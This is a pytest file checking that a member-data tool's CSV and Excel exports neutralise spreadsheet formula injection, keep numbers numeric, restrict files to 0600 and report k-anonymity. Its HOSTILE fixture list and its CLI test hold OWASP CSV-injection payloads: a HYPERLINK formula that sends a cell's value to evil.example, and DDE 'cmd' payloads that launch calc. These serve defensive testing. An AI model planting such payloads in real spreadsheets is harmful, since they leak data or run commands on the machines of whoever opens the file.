"""The one export writer: formula injection neutralised (OWASP "CSV Injection"), numbers kept,
files 0600, k-anonymity reported; and the CLI exports that use it."""

from __future__ import annotations

import csv
import io
import stat

import pyarrow as pa
import pytest
from openpyxl import load_workbook

from memberlens.exports import export_bytes, k_anonymity, neutralise, write_export

# the cells of the OWASP page: each would run (or start to run) as a formula in a spreadsheet
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&B2,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _table() -> pa.Table:
    return pa.table(
        {
            "member_id": [*HOSTILE, "m-ok", None],
            "amount": pa.array([-12.5, 3.0, 0.0, 1.0, 2.0, 4.0, -7.25, None], pa.float64()),
            "orders": pa.array([1, -2, 3, 4, 5, 6, 7, 8], pa.int64()),
            "city": pa.array(["广州市"] * 5 + ["深圳市"] * 3).dictionary_encode(),
            "gender": ["f", "f", "m", "m", "m", "f", "f", "f"],
        }
    )


def test_text_cells_that_start_a_formula_are_quoted_and_numbers_kept():
    safe, changed = neutralise(_table())
    assert changed == len(HOSTILE)
    assert safe["member_id"].to_pylist() == ["'" + v for v in HOSTILE] + ["m-ok", None]
    assert safe["amount"].to_pylist()[0] == -12.5 and safe["orders"].to_pylist()[1] == -2


def test_excel_export_has_no_formula_and_numbers_stay_numbers(tmp_path):
    result = write_export(_table(), tmp_path / "x.xlsx")
    assert result.rows == 8 and result.neutralised == len(HOSTILE)
    ws = load_workbook(tmp_path / "x.xlsx").active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    ids = [ws.cell(row=r, column=1).value for r in range(2, 8)]
    assert ids == ["'" + v.replace("\r", "\n") for v in HOSTILE]  # XML reads CR as LF
    amount = ws.cell(row=2, column=2)
    assert amount.data_type == "n" and amount.value == -12.5  # a negative amount is a number
    assert ws.cell(row=3, column=3).value == -2


def test_csv_export_quotes_formula_cells(tmp_path):
    write_export(_table(), tmp_path / "x.csv")
    raw = (tmp_path / "x.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert [r["member_id"] for r in rows[:6]] == ["'" + v for v in HOSTILE]
    assert not any(r["member_id"][:1] in "=+-@\t\r" for r in rows if r["member_id"])
    assert rows[0]["amount"] == "-12.5"  # written as a number, unquoted


@pytest.mark.parametrize("name", ["x.csv", "x.xlsx", "x.parquet"])
def test_files_are_created_and_narrowed_to_0600(tmp_path, name):
    path = tmp_path / name
    write_export(_table(), path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    path.chmod(0o644)  # an older, wider file is narrowed when overwritten
    write_export(_table(), path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_download_bytes_match_the_file(tmp_path):
    body, result = export_bytes(_table(), "csv")
    write_export(_table(), tmp_path / "x.csv")
    assert body == (tmp_path / "x.csv").read_bytes() and result.path is None


def test_k_anonymity_reports_the_smallest_group():
    # groups (city, gender): 广州 f 2, 广州 m 3, 深圳 f 3 -> k = 2 over 3 groups (counted by hand)
    k = k_anonymity(_table())
    assert (k.columns, k.k, k.groups) == (("city", "gender"), 2, 3)
    assert k_anonymity(_table().drop_columns(["city", "gender"])).k is None
    one = pa.table({"age_band": ["30-39", "40-49"], "city": ["a", "a"], "gender": ["f", "f"]})
    assert k_anonymity(one).k == 1


def test_unknown_suffix_is_a_user_error(tmp_path):
    from memberlens.exceptions import ConfigError

    with pytest.raises(ConfigError, match=r"\.csv, \.xlsx or \.parquet"):
        write_export(_table(), tmp_path / "x.txt")


def test_quarantine_export_through_the_cli_is_neutralised(tmp_path):
    from typer.testing import CliRunner

    from memberlens.cli import app
    from memberlens.ingest import load
    from memberlens.project import init_project

    proj = init_project(tmp_path / "p")
    (tmp_path / "o.csv").write_text(
        "order_id,member_id,ordered_at,amount\n"
        'o1,m1,2024-01-01,10\n"=HYPERLINK(""http://evil.example/""&A1)",m2,yesterday,10\n',
        encoding="utf-8",
    )
    load("orders", tmp_path / "o.csv", project=proj)
    out = tmp_path / "q.xlsx"
    r = CliRunner().invoke(
        app, ["quarantine", "orders", "-p", str(proj.root), "--export", str(out)]
    )
    assert r.exit_code == 0, r.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    ws = load_workbook(out).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)
